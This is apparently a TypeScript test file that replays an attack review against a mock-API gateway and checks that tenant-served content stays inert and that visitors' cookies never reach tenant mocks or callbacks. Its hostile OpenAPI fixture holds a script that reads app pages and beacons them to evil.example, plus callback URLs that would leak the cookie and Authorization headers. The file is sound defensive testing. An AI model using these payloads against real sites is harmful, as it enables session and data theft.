/**
 * Findings 1 and 2 of the attack review, replayed against a real mock process
 * behind the real gateway (proxy.server.ts) on 127.0.0.1:
 * 1. tenant content on the app's origin must be inert (no cookies set, no
 *    security headers replaced, CSP sandbox + nosniff added);
 * 2. a visitor's app cookies never reach the tenant's mock, nor a callback URL.
 */
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { db } from '~/server/db.server'
import { resetEnvCache } from '~/server/env.server'
import { evaluateExpression } from '~/server/mocks/callbacks.server'
import {
  answerHeaders,
  INERT_HEADERS,
  mockGateway,
  withoutAppCookies,
} from '~/server/mocks/proxy.server'
import { createMock } from '~/server/mocks/service.server'
import { getSupervisor } from '~/server/mocks/supervisor.server'
import { importSpec } from '~/server/specs/store.server'
import { createOrg, createProject } from '../helpers'
import { httpCall } from '../support/http-call'

const base = 20_000 + Math.floor(Math.random() * 20_000)
process.env.MOCK_PORT_RANGE = `${base}-${base + 5}`
process.env.OUTBOUND_ALLOW_PRIVATE = 'true'
process.env.WEBHOOK_BACKOFF_MS = '50'

const MOCK_HOST = 'mocks.example-mocks.test'

/** The attacker's spec from the review: a page loading a script of the same mock, a cookie, a CSP. */
function hostileSpec(callbackBase: string) {
  return `openapi: 3.0.3
info: {title: Innocent API, version: "1"}
paths:
  /page:
    get:
      operationId: page
      responses:
        "200":
          description: a page
          headers:
            Set-Cookie: {schema: {type: string, example: "__session=attacker; Path=/"}}
            Content-Security-Policy: {schema: {type: string, example: "script-src *"}}
            Clear-Site-Data: {schema: {type: string, example: '"*"'}}
            Refresh: {schema: {type: string, example: "0; url=https://evil.example/"}}
          content:
            text/html:
              example: '<html><body><script src="app.js"></script></body></html>'
  /app.js:
    get:
      operationId: script
      responses:
        "200":
          description: script
          content:
            application/javascript:
              example: "fetch('/projects').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
  /whoami:
    get:
      operationId: whoami
      security: [{stolenSession: []}]
      responses: {"200": {description: the caller's session cookie was received}}
  /subscribe:
    post:
      operationId: subscribe
      requestBody: {content: {application/json: {schema: {type: object}}}}
      responses: {"201": {description: ok}}
      callbacks:
        steal:
          '${callbackBase}/cb?c={$request.header.cookie}':
            post:
              requestBody: {content: {application/json: {schema: {type: object}}}}
              responses: {"200": {description: ok}}
        alsoAuth:
          '${callbackBase}/cb?a={$request.header.authorization}':
            post:
              requestBody: {content: {application/json: {schema: {type: object}}}}
              responses: {"200": {description: ok}}
        echo:
          '${callbackBase}/echo':
            post:
              requestBody: {content: {application/json: {schema: {type: object}}}}
              responses: {"200": {description: ok}}
components:
  securitySchemes:
    stolenSession: {type: apiKey, in: cookie, name: __session}
`
}

let gatewayUrl: string
let gatewayServer: http.Server
let receiver: http.Server
const received: { url: string; headers: http.IncomingHttpHeaders }[] = []
let mockId: string

beforeAll(async () => {
  receiver = http.createServer((request, response) => {
    received.push({ url: request.url ?? '', headers: request.headers })
    request.resume()
    response.writeHead(200).end()
  })
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
  const receiverBase = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`
  resetEnvCache()

  const project = await createProject((await createOrg()).id)
  const imported = await importSpec({
    projectId: project.id,
    raw: new TextEncoder().encode(hostileSpec(receiverBase)),
    sourceKind: 'paste',
  })
  const mock = await createMock(project.id, imported.version.id, { stateful: false })
  expect(mock.status).toBe('up')
  mockId = mock.id

  const gateway = mockGateway(MOCK_HOST)
  gatewayServer = http.createServer((request, response) =>
    gateway(request, response, () => response.writeHead(200).end('the app')),
  )
  await new Promise<void>((resolve) => gatewayServer.listen(0, '127.0.0.1', resolve))
  gatewayUrl = `http://127.0.0.1:${(gatewayServer.address() as AddressInfo).port}`
})

afterAll(async () => {
  await getSupervisor().shutdown()
  gatewayServer?.close()
  receiver?.close()
  delete process.env.OUTBOUND_ALLOW_PRIVATE
  resetEnvCache()
})

function get(path: string, headers: Record<string, string> = {}, method = 'GET', body?: string) {
  return httpCall(`${gatewayUrl}${path}`, { method, headers, body })
}

describe('finding 1: tenant content on the app origin is inert', () => {
  it('drops the spec’s Set-Cookie and security headers and adds a sandbox CSP with nosniff', async () => {
    const page = await get(`/mock/${mockId}/page`)
    expect(page.status).toBe(200)
    expect(page.body).toContain('<script src="app.js">')
    expect(page.headers['set-cookie']).toBeUndefined()
    expect(page.headers['clear-site-data']).toBeUndefined()
    expect(page.headers.refresh).toBeUndefined()
    expect(page.headers['content-security-policy']).toMatch(/^sandbox;/)
    expect(page.headers['content-security-policy']).not.toContain('script-src *')
    expect(page.headers['x-content-type-options']).toBe('nosniff')
    const script = await get(`/mock/${mockId}/app.js`)
    expect(script.headers['content-security-policy']).toMatch(/^sandbox;/)
    expect(script.headers['x-content-type-options']).toBe('nosniff')
  })

  it('on the mocks’ own host the API answers as the spec says, and nothing of the app is served', async () => {
    const page = await get(`/mock/${mockId}/page`, { host: MOCK_HOST })
    expect(page.headers['set-cookie']).toEqual(['__session=attacker; Path=/'])
    expect(page.headers['content-security-policy']).toBe('script-src *')
    const app = await get('/projects', { host: MOCK_HOST })
    expect(app.status).toBe(404)
    expect(app.body).not.toContain('the app')
    expect((await get('/projects')).body).toBe('the app')
  })

  it('drops what a tenant may not set however its names are cased, and framing headers on both origins', () => {
    const tenant = [
      'Set-Cookie',
      '__session=attacker',
      'Content-Security-Policy',
      'script-src *',
      'Transfer-Encoding',
      'chunked',
      'Content-Length',
      '3',
      'X-Rate-Limit',
      '10',
    ]
    expect(answerHeaders(tenant, true, '/mock/x')).toEqual([
      'x-rate-limit',
      '10',
      ...Object.entries(INERT_HEADERS).flat(),
    ])
    expect(answerHeaders(tenant, false, '/mock/x')).toEqual([
      'set-cookie',
      '__session=attacker',
      'content-security-policy',
      'script-src *',
      'x-rate-limit',
      '10',
    ])
  })

  it('never turns the app origin into a redirect off the mock', () => {
    const locationOf = (list: string[]) => list[list.indexOf('location') + 1]
    const inert = (location: string) => {
      const list = answerHeaders(['Location', location], true, `/mock/${mockId}`)
      return list.includes('location') ? locationOf(list) : undefined
    }
    expect(inert('https://evil.example/')).toBeUndefined()
    expect(inert('//evil.example/x')).toBeUndefined()
    expect(inert('/pets/1')).toBe(`/mock/${mockId}/pets/1`)
    expect(inert(`/mock/${mockId}/pets/2`)).toBe(`/mock/${mockId}/pets/2`)
    expect(locationOf(answerHeaders(['location', 'https://evil.example/'], false, '/mock/x'))).toBe(
      'https://evil.example/',
    )
  })
})

describe('finding 2: no app credential reaches a tenant', () => {
  it('strips the visitor’s app cookies before the mock sees the request', async () => {
    expect(withoutAppCookies('__session=s; toast=t; github-oauth=g')).toBeNull()
    expect(withoutAppCookies('__session=s; api_key=k')).toBe('api_key=k')
    // The mock demands the `__session` cookie: it gets it only where the app's own cookie cannot be.
    const cookie = '__session=victim-session; toast=t; tenant_cookie=kept'
    expect((await get(`/mock/${mockId}/whoami`, { cookie })).status).toBe(401)
    expect((await get(`/mock/${mockId}/whoami`, { cookie, host: MOCK_HOST })).status).toBe(200)
    await until(async () =>
      Boolean(await db.mockRequestLog.findFirst({ where: { mockId, path: '/whoami' } })),
    )
    const logged = await db.mockRequestLog.findMany({ where: { mockId } })
    expect(JSON.stringify(logged)).not.toContain('victim-session')
  })

  it('callback URLs cannot read cookies or Authorization, even on the mocks’ own host', async () => {
    received.length = 0
    const answer = await get(
      `/mock/${mockId}/subscribe`,
      {
        host: MOCK_HOST,
        cookie: '__session=victim-session',
        authorization: 'Bearer app-token',
        'content-type': 'application/json',
      },
      'POST',
      '{}',
    )
    expect(answer.status).toBe(201)
    // The harmless callback is delivered; the two that read credentials never fire.
    await until(async () => received.some((entry) => entry.url === '/echo'))
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(received.map((entry) => entry.url)).toEqual(['/echo'])
    expect(JSON.stringify(received)).not.toContain('victim-session')
    expect(JSON.stringify(received)).not.toContain('app-token')
  })

  it('runtime expressions resolve credential headers to nothing', () => {
    const request = {
      method: 'POST',
      pathname: '/x',
      query: new URLSearchParams(),
      headers: {
        cookie: '__session=s',
        authorization: 'Bearer t',
        'x-api-key': 'k',
        'x-callback-host': 'hooks.example',
      },
      body: Buffer.alloc(0),
    }
    for (const header of ['cookie', 'Cookie', 'authorization', 'x-api-key'])
      expect(evaluateExpression(`$request.header.${header}`, request, {}, {})).toBeUndefined()
    expect(evaluateExpression('$request.header.x-callback-host', request, {}, {})).toBe(
      'hooks.example',
    )
  })
})

async function until(check: () => Promise<boolean>, timeoutMs = 10_000) {
  const started = Date.now()
  while (Date.now() - started < timeoutMs) {
    if (await check()) return
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  throw new Error('condition not met in time')
}
